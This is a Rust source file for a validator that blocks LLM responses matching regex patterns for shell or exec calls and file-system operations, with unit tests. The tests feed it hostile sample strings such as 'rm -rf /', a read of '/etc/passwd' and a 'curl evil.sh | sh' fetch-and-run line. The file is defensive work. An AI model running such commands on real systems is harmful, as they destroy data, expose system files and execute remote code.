//! Response validation to ensure safe outputs from LLM providers.

use anyhow::Result;
use regex::Regex;
use tracing::{debug, warn};

use crate::LlmResponse;

/// Response validator that ensures safe outputs from LLM providers.
pub struct ResponseValidator {
    harmful_patterns: Vec<HarmfulPattern>,
    max_response_length: usize,
}

#[derive(Debug, Clone)]
struct HarmfulPattern {
    pattern: Regex,
    description: String,
    block_response: bool,
}

impl ResponseValidator {
    /// Build a validator with the default security pattern set.
    pub fn new() -> Self {
        let harmful_patterns = vec![
            HarmfulPattern {
                pattern: Regex::new(r"(?i)(system|exec|eval|subprocess|shell|cmd|powershell|bash|sh)\s*\(").unwrap(),
                description: "Executable code in response".to_string(),
                block_response: true,
            },
            HarmfulPattern {
                pattern: Regex::new(r"(?i)(open|read|write|delete|rm|mv|cp|mkdir|rmdir)\s*\(").unwrap(),
                description: "File system operations in response".to_string(),
                block_response: true,
            },
        ];

        Self { harmful_patterns, max_response_length: 1_048_576 }
    }

    /// Validate `response`, blocking it outright if a harmful pattern is
    /// present or it exceeds the maximum allowed length.
    pub fn validate(&self, response: LlmResponse) -> Result<LlmResponse> {
        debug!("validating llm response");

        let content = response.content().to_string();
        let mut blocked_patterns = Vec::new();

        for pattern in &self.harmful_patterns {
            if pattern.block_response && pattern.pattern.is_match(&content) {
                blocked_patterns.push(pattern.description.clone());
            }
        }

        if !blocked_patterns.is_empty() {
            warn!(patterns = ?blocked_patterns, "blocking response due to harmful patterns");
            anyhow::bail!("response blocked due to security concerns: {}", blocked_patterns.join(", "));
        }

        if content.len() > self.max_response_length {
            anyhow::bail!("response too long: {} characters", content.len());
        }

        Ok(response)
    }

    /// Whether `content` would be blocked, without constructing a response.
    pub fn would_block(&self, content: &str) -> bool {
        self.harmful_patterns.iter().any(|p| p.block_response && p.pattern.is_match(content))
    }
}

impl Default for ResponseValidator {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{LlmResponse, TokenUsage};
    use std::time::Duration;

    fn response(content: &str) -> LlmResponse {
        let usage = TokenUsage { prompt_tokens: 1, completion_tokens: 1, total_tokens: 2 };
        LlmResponse::new(content.to_string(), usage, "test".to_string(), "test".to_string(), Duration::from_millis(1))
            .unwrap()
    }

    #[test]
    fn blocks_executable_code_in_response() {
        let validator = ResponseValidator::new();
        let err = validator.validate(response("Here: system('rm -rf /')")).unwrap_err();
        assert!(err.to_string().contains("Executable code"));
    }

    #[test]
    fn blocks_file_system_operations_in_response() {
        let validator = ResponseValidator::new();
        let err = validator.validate(response("Try open('/etc/passwd')")).unwrap_err();
        assert!(err.to_string().contains("File system operations"));
    }

    #[test]
    fn rejects_overlong_responses() {
        let validator = ResponseValidator::new();
        let content = "a".repeat(2_000_000);
        let err = validator.validate(response(&content)).unwrap_err();
        assert!(err.to_string().contains("too long"));
    }

    #[test]
    fn allows_safe_responses_through_unchanged() {
        let validator = ResponseValidator::new();
        let validated = validator.validate(response("The weather in Paris is sunny.")).unwrap();
        assert_eq!(validated.content(), "The weather in Paris is sunny.");
    }

    #[test]
    fn would_block_previews_without_constructing_a_response() {
        let validator = ResponseValidator::new();
        assert!(validator.would_block("exec('curl evil.sh | sh')"));
        assert!(!validator.would_block("42 degrees and sunny"));
    }
}
